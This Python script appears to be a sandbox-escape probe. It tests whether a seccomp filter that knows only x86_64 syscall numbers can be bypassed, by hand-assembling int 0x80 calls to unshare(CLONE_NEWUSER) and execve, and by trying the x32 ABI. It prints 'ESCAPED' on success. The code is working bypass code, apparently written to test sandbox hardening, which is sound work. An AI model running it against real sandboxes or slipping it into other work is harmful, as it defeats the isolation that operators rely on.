# Aims at the host past a seccomp filter that only knows x86_64 numbers: make system calls through the
# 32-bit entry (int 0x80) and the x32 ABI -- getpid, unshare(CLONE_NEWUSER), execve of the interpreter.
# ESCAPED only when the 32-bit unshare returned 0 or the 32-bit execve ran the interpreter.
import ctypes
import mmap
import os
import platform
import select
import struct
import sys
import time

nonce = "stui" + os.urandom(4).hex()


def in_child(fn, seconds=4):
    """Run fn() in a forked child with stdout on a pipe; return (output, how the child ended)."""
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.dup2(w, 1)
            fn()
        except BaseException as e:
            os.write(1, f"{type(e).__name__} {e}".encode())
        finally:
            os._exit(0)
    os.close(w)
    data = b""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        ready, _, _ = select.select([r], [], [], 0.2)
        if ready:
            chunk = os.read(r, 4096)
            if not chunk:
                break
            data += chunk
    os.close(r)
    status = "still running"
    for _ in range(20):
        done, st = os.waitpid(pid, os.WNOHANG)
        if done:
            status = f"killed by signal {os.WTERMSIG(st)}" if os.WIFSIGNALED(st) else f"exit {os.WEXITSTATUS(st)}"
            break
        time.sleep(0.1)
    else:
        os.kill(pid, 9)
        os.waitpid(pid, 0)
    return data, status


def page_32bit():
    prot = mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC
    m = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40, prot=prot)
    addr = ctypes.addressof(ctypes.c_char.from_buffer(m))
    return m, addr


def int80(code):
    m, addr = page_32bit()
    m.seek(0)
    m.write(code)
    return ctypes.CFUNCTYPE(ctypes.c_long)(addr)(), m


if platform.machine() != "x86_64":
    print("not x86_64: nothing to try")
else:

    def getpid32():
        r, _m = int80(b"\xb8" + struct.pack("<I", 20) + b"\xcd\x80\xc3")
        os.write(1, f"getpid32={r}".encode())

    out, how = in_child(getpid32)
    print("i386 getpid:", out[:80], how)

    def unshare32():
        code = b"\x53\xbb" + struct.pack("<I", 0x10000000) + b"\xb8" + struct.pack("<I", 310) + b"\xcd\x80\x5b\xc3"
        r, _m = int80(code)
        os.write(1, f"unshare32={ctypes.c_int32(r).value}".encode())

    out, how = in_child(unshare32)
    print("i386 unshare:", out[:80], how)
    if b"unshare32=0" in out:
        print("ESCAPED: unshare(CLONE_NEWUSER) through int 0x80 was allowed")

    def execve32():
        m, addr = page_32bit()
        path = sys.executable.encode() + b"\0"
        args = [path, b"-c\0", f"print('{nonce}')\0".encode()]
        data_off = 512
        ptrs, blob = [], b""
        for a in args:
            ptrs.append(addr + data_off + len(blob))
            blob += a
        argv_off = data_off + len(blob) + 8
        argv = b"".join(struct.pack("<I", p) for p in ptrs) + b"\0\0\0\0"
        envp_off = argv_off + len(argv)
        m.seek(data_off)
        m.write(blob)
        m.seek(argv_off)
        m.write(argv + b"\0\0\0\0")
        code = (
            b"\x53"
            + b"\xbb"
            + struct.pack("<I", ptrs[0])
            + b"\xb9"
            + struct.pack("<I", addr + argv_off)
            + b"\xba"
            + struct.pack("<I", addr + envp_off)
            + b"\xb8"
            + struct.pack("<I", 11)
            + b"\xcd\x80\x5b\xc3"
        )
        m.seek(0)
        m.write(code)
        r = ctypes.CFUNCTYPE(ctypes.c_long)(addr)()
        os.write(1, f"execve32={ctypes.c_int32(r).value}".encode())

    out, how = in_child(execve32)
    print("i386 execve:", out[:80], how)
    if nonce.encode() in out:
        print("ESCAPED: execve through int 0x80 ran the interpreter")

    def x32():
        libc = ctypes.CDLL(None, use_errno=True)
        libc.syscall.restype = ctypes.c_long
        pid = libc.syscall(ctypes.c_long(0x40000000 | 39))
        e1 = ctypes.get_errno()
        r = libc.syscall(ctypes.c_long(0x40000000 | 272), ctypes.c_long(0x10000000))
        e2 = ctypes.get_errno()
        os.write(1, f"x32 getpid={pid} errno {e1}; x32 unshare={r} errno {e2}".encode())

    out, how = in_child(x32)
    print("x32:", out[:120], how)
    if b"x32 unshare=0 " in out:
        print("ESCAPED: unshare(CLONE_NEWUSER) through the x32 ABI was allowed")
